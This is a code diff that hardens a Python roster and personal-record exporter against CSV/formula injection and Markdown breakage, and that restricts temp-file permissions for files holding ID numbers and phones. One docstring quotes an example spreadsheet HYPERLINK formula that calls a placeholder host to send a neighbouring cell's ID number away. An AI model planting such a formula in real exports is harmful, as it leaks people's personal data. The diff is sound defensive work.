@@ -42,6 +42,24 @@ def _text(value: Cell) -> str:
     return str(value)
 
 
+#: a text cell starting with one of these is a formula to Excel, LibreOffice or Sheets (OWASP CSV injection)
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert_csv(text: str) -> str:
+    """A CSV cell no spreadsheet evaluates: a leading ``'`` before a formula character (importers strip it)."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def inert_cells(ws: Any) -> None:
+    """Every text cell of an openpyxl sheet as a string cell: openpyxl writes text starting with ``=`` as a live
+    formula, and a name like ``=HYPERLINK("http://x/?"&F4,"click")`` would send the next cell's ID number away."""
+    for row in ws.iter_rows():
+        for c in row:
+            if c.data_type in ("f", "e") and isinstance(c.value, str):  # a formula, or text like "#N/A"
+                c.data_type = "s"
+
+
 def write_atomically(path: Path, write: Callable[[io.BufferedWriter], object], *, force: bool) -> Path:
     path = Path(path)
     if path.exists() and not force:
@@ -49,8 +67,14 @@ def write_atomically(path: Path, write: Callable[[io.BufferedWriter], object], *
                           f"{path} already exists and was not overwritten. Choose another name (-o) or add --force.")
     path.parent.mkdir(parents=True, exist_ok=True)
     tmp = path.with_name(f".{path.name}.{os.getpid()}.tmp")
+    with contextlib.suppress(FileNotFoundError):
+        os.unlink(tmp)  # left by a crash: created anew below, never written through
     try:
-        with open(tmp, "wb") as fh:
+        # 0600 whatever the umask: rosters and backups hold ID numbers and phones (PIPL)
+        fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_EXCL | getattr(os, "O_BINARY", 0), 0o600)
+        if hasattr(os, "fchmod"):
+            os.fchmod(fd, 0o600)
+        with open(fd, "wb") as fh:
             write(fh)
             fh.flush()
             os.fsync(fh.fileno())
@@ -79,20 +103,26 @@ def rosters_csv(rosters: list[Roster], lang: str) -> bytes:
     (r,) = rosters
     buf = io.StringIO()
     w = csv.writer(buf, lineterminator="\r\n")
-    w.writerow(_header(r, lang))
+    w.writerow([inert_csv(h) for h in _header(r, lang)])
     for row in _body(r):
-        w.writerow([_text(v) for v in row])
+        w.writerow([inert_csv(v) if isinstance(v, str) else _text(v) for v in row])
     return buf.getvalue().encode("utf-8-sig")  # the BOM makes Excel read Chinese correctly
 
 
+def md_text(text: str) -> str:
+    """Text inside a Markdown table cell or line: a ``|`` or a line break cannot end the cell or the row."""
+    text = text.replace("\\", "\\\\").replace("|", "\\|")
+    return " ".join(text.splitlines())
+
+
 def _md_cell(value: Cell) -> str:
-    return _text(value).replace("|", "\\|").replace("\n", " ")
+    return md_text(_text(value))
 
 
 def rosters_md(rosters: list[Roster], lang: str) -> bytes:
     parts = []
     for r in rosters:
-        parts.append(f"## {r.title}\n\n{r.subtitle}\n")
+        parts.append(f"## {md_text(r.title)}\n\n{md_text(r.subtitle)}\n")
         parts.append("| " + " | ".join(_header(r, lang)) + " |")
         parts.append("|" + "---|" * (len(r.columns) + 1))
         for row in _body(r):
@@ -149,6 +179,7 @@ def rosters_xlsx(rosters: list[Roster], lang: str) -> bytes:
         ws.page_setup.fitToHeight = 0
         ws.sheet_properties.pageSetUpPr.fitToPage = True
         ws.print_options.horizontalCentered = True
+        inert_cells(ws)
     buf = io.BytesIO()
     wb.save(buf)
     return buf.getvalue()
@@ -226,10 +257,10 @@ def person_record(view: PersonView, fmt: str, lang: str, today: date, full_id: b
     facts = _person_facts(view, lang, full_id)
     rows = _record_rows(view, lang)
     if fmt == "md":
-        lines = [f"# {title}", "", ("截至 " if lang == "zh" else "As of ") + today.isoformat(), ""]
-        lines += [f"- {k}：{v}" if lang == "zh" else f"- {k}: {v}" for k, v in facts]
+        lines = [f"# {md_text(title)}", "", ("截至 " if lang == "zh" else "As of ") + today.isoformat(), ""]
+        lines += [f"- {k}：{md_text(v)}" if lang == "zh" else f"- {k}: {md_text(v)}" for k, v in facts]
         lines += ["", "| " + " | ".join(heads) + " |", "|---|---|---|---|---|"]
-        lines += ["| " + " | ".join(c.replace("|", "\\|") for c in row) + " |" for row in rows]
+        lines += ["| " + " | ".join(md_text(c) for c in row) + " |" for row in rows]
         return ("\n".join(lines) + "\n").encode("utf-8")
     if fmt != "xlsx":
         raise ExportError("全程纪实可导出为 md 或 xlsx。", "A person's record can be written as md or xlsx.")
@@ -259,6 +290,7 @@ def person_record(view: PersonView, fmt: str, lang: str, today: date, full_id: b
     ws.page_setup.paperSize = ws.PAPERSIZE_A4
     ws.sheet_properties.pageSetUpPr.fitToPage = True
     ws.page_setup.fitToHeight = 0
+    inert_cells(ws)
     buf = io.BytesIO()
     wb.save(buf)
     return buf.getvalue()
